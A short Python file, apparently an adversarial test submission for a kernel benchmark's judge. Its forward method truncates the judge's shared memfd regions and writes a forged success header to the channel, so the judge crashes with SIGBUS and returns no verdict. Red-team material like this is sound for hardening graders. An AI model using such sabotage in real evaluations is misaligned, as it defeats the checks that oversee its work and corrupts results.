"""Attack: crash the judge through the memory both processes map. The candidate process holds the descriptors of the
memfds the judge made (the output region and, on the GPU profile's tests, the timed inputs' regions: found in
/proc/self/fd) and the channel's (KB_CHANNEL_FDS): the route truncates every memfd to nothing, then answers the call
itself with a header saying its output lies in the output region, so that the judge's copy out of it reads past the
end of the file -- SIGBUS in the judge, and no verdict at all."""

import json
import os
import struct
import time

from kernels.problems.new_gelu import Model


def _memfds() -> list[int]:
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("/memfd:"):
                found.append(int(name))
        except OSError:
            continue
    return found


class ModelNew(Model):
    def forward(self, x):
        out = super().forward(x)
        for fd in _memfds():
            os.ftruncate(fd, 0)
        meta = {"type": "Tensor", "plain": True, "dtype": "float32", "shape": list(out.shape), "device": "cpu"}
        body = json.dumps({"ok": True, "output": meta, "shared": out.numel() * 4}).encode()
        os.write(int(os.environ["KB_CHANNEL_FDS"].split(",")[1]), struct.pack(">I", len(body)) + body)
        time.sleep(60)  # the judge reads the region now
        return out
